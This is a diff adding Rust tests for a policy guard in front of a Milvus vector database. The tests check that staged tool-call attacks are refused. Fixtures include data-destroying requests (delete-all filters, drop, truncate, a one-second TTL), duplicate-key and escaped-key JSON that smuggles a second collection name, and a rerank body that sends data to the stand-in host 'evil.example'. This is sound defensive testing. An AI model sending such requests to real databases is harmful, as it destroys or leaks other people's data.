@@ -1,0 +1,233 @@
+//! More than the call is for, and more than the operator allows. The recorder says what arrived, the audit which rule
+//! held.
+
+use host_harness::{Endpoint, Mode, Names, Policy};
+use serde_json::{Value, json};
+
+use super::{Seen, Stage};
+use crate::servers::{Recorder, ok};
+
+const DELETE: &str = "/v2/vectordb/entities/delete";
+const DESCRIBE: &str = "/v2/vectordb/collections/describe";
+const DROP: &str = "/v2/vectordb/collections/drop";
+const INSERT: &str = "/v2/vectordb/entities/insert";
+const LIST: &str = "/v2/vectordb/collections/list";
+const QUERY: &str = "/v2/vectordb/entities/query";
+
+/// What a call about the collection `docs` sends to `milvus`. The guest says of its attacks that they only read.
+async fn sends(milvus: &Recorder, policy: Policy, path: &str, body: &str) -> Seen {
+    let endpoint = Endpoint::builder(&milvus.uri()).policy(policy).build();
+    let arguments = json!({"collection_name": "docs", "path": path, "body": body});
+    Stage::wide()
+        .attack_at(
+            &endpoint.expect("an origin"),
+            "another_operation",
+            arguments,
+        )
+        .await
+}
+
+/// Each of `requests` is refused by its rule, and nobody is connected to.
+async fn each_is_refused(policy: &Policy, requests: &[(&str, &str, &str)]) {
+    let milvus = Recorder::start();
+    for (path, body, rule) in requests {
+        let seen = sends(&milvus, policy.clone(), path, body).await;
+        assert_eq!(
+            (seen.rules(), seen.sent()),
+            (vec![*rule], 0),
+            "{body}: {seen:?}"
+        );
+    }
+    assert_eq!(milvus.connections(), 0);
+}
+
+fn names(list: &[&str]) -> Names {
+    Names::parse(list.iter().copied()).expect("names")
+}
+
+#[tokio::test]
+async fn t26_a_tool_that_says_it_reads_changes_nothing() {
+    each_is_refused(
+        &Policy::default(),
+        &[
+            (
+                INSERT,
+                r#"{"collectionName":"docs","data":[{"id":1}]}"#,
+                "tool-effect",
+            ),
+            (
+                DELETE,
+                r#"{"collectionName":"docs","filter":"id >= 0"}"#,
+                "tool-effect",
+            ),
+            (DROP, r#"{"collectionName":"docs"}"#, "tool-effect"),
+        ],
+    )
+    .await;
+}
+
+#[tokio::test]
+async fn t26_a_call_about_one_collection_reaches_no_other() {
+    each_is_refused(
+        &Policy::default(),
+        &[
+            (
+                QUERY,
+                r#"{"collectionName":"hr","filter":""}"#,
+                "call-collection",
+            ),
+            (DESCRIBE, r#"{"collectionName":"hr"}"#, "call-collection"),
+        ],
+    )
+    .await;
+    let milvus = Recorder::start();
+    let body = r#"{"collectionName":"docs","filter":""}"#;
+    let seen = sends(&milvus, Policy::default(), QUERY, body).await;
+    assert_eq!((seen.sent(), milvus.requests().len()), (1, 1), "{seen:?}");
+    assert_eq!(milvus.requests()[0].body, body.as_bytes());
+}
+
+#[tokio::test]
+async fn t29_what_loses_data_is_refused_whatever_it_is_called() {
+    each_is_refused(
+        &Policy::new(Mode::NoDrop),
+        &[
+            (
+                DELETE,
+                r#"{"collectionName":"docs","filter":"id >= 0"}"#,
+                "effect",
+            ),
+            (
+                "/v2/vectordb/collections/truncate",
+                r#"{"collectionName":"docs"}"#,
+                "effect",
+            ),
+            (
+                "/v2/vectordb/collections/release",
+                r#"{"collectionName":"docs"}"#,
+                "effect",
+            ),
+            (
+                "/v2/vectordb/collections/alter_properties",
+                r#"{"collectionName":"docs","properties":{"collection.ttl.seconds":1}}"#,
+                "effect",
+            ),
+        ],
+    )
+    .await;
+}
+
+#[tokio::test]
+async fn t15_a_key_that_two_readers_would_take_differently_is_refused() {
+    each_is_refused(
+        &Policy::default(),
+        &[
+            (
+                QUERY,
+                r#"{"collectionName":"docs","collectionName":"hr"}"#,
+                "duplicate-key",
+            ),
+            (
+                QUERY,
+                r#"{"collectionName":"docs","collection\u004eame":"hr"}"#,
+                "duplicate-key",
+            ),
+            (
+                QUERY,
+                r#"{"collectionName":"docs","COLLECTIONNAME":"hr"}"#,
+                "key",
+            ),
+            (
+                QUERY,
+                r#"{"collectionName":"docs"}{"collectionName":"hr"}"#,
+                "json",
+            ),
+            (QUERY, r#"{"collectionName":"docs","dbName":null}"#, "name"),
+        ],
+    )
+    .await;
+}
+
+#[tokio::test]
+async fn t18_where_databases_are_listed_one_has_to_be_named() {
+    let listed = Policy::default().databases(names(&["sales"]));
+    each_is_refused(
+        &listed,
+        &[
+            (QUERY, r#"{"collectionName":"docs"}"#, "database"),
+            (
+                QUERY,
+                r#"{"collectionName":"docs","dbName":"default"}"#,
+                "database",
+            ),
+            (LIST, "{}", "database"),
+        ],
+    )
+    .await;
+}
+
+#[tokio::test]
+async fn t27_milvus_is_not_sent_to_a_third_party() {
+    let rerank = r#"{"collectionName":"docs","data":[[1]],"limit":1,"functionScore":{"functions":[
+        {"name":"f","type":"Rerank","inputFieldNames":["t"],"outputFieldNames":[],
+         "params":{"reranker":"model","provider":"tei","endpoint":"http://evil.example"}}],"params":{}}}"#;
+    each_is_refused(
+        &Policy::default(),
+        &[("/v2/vectordb/entities/search", rerank, "effect")],
+    )
+    .await;
+}
+
+#[tokio::test]
+async fn t25_a_list_comes_without_foreign_names() {
+    let milvus = Recorder::answering(|_| {
+        ok(
+            "application/json",
+            br#"{"code":0,"data":["docs","payroll","docs_2"]}"#,
+        )
+    });
+    let listed = Policy::default().collections(names(&["docs", "docs_*"]));
+    let seen = sends(&milvus, listed, LIST, "{}").await;
+    let told = seen.answer.expect("an answer");
+    assert_eq!(told["body"], r#"{"code":0,"data":["docs","docs_2"]}"#);
+}
+
+#[tokio::test]
+async fn t24_an_answer_about_another_collection_is_withheld() {
+    let milvus = Recorder::answering(|_| {
+        ok(
+            "application/json",
+            br#"{"code":0,"data":{"collectionName":"payroll","aliases":["docs"]}}"#,
+        )
+    });
+    let listed = Policy::default().collections(names(&["docs"]));
+    let seen = sends(&milvus, listed, DESCRIBE, r#"{"collectionName":"docs"}"#).await;
+    assert_eq!(seen.requests[0]["withheld"], "answer", "{seen:?}");
+    assert!(!seen.told().contains("payroll"), "{seen:?}");
+}
+
+#[tokio::test]
+async fn t14_an_empty_list_lets_nothing_be_named() {
+    each_is_refused(
+        &Policy::default().collections(names(&[])),
+        &[
+            (QUERY, r#"{"collectionName":"docs"}"#, "collection"),
+            (
+                "/v2/vectordb/common/run_analyzer",
+                r#"{"text":["a"]}"#,
+                "nameless",
+            ),
+        ],
+    )
+    .await;
+}
+
+#[tokio::test]
+async fn t55_a_tool_that_is_not_listed_lets_nothing_out() {
+    let milvus = Recorder::start();
+    let endpoint = super::endpoint(&milvus.uri());
+    let seen = Stage::wide()
+        .attack_at(&endpoint, "ordinary_request_in_disguise", Value::Null)
+        .await;
+    assert_eq!((seen.sent(), milvus.connections()), (0, 0), "{seen:?}");
+}
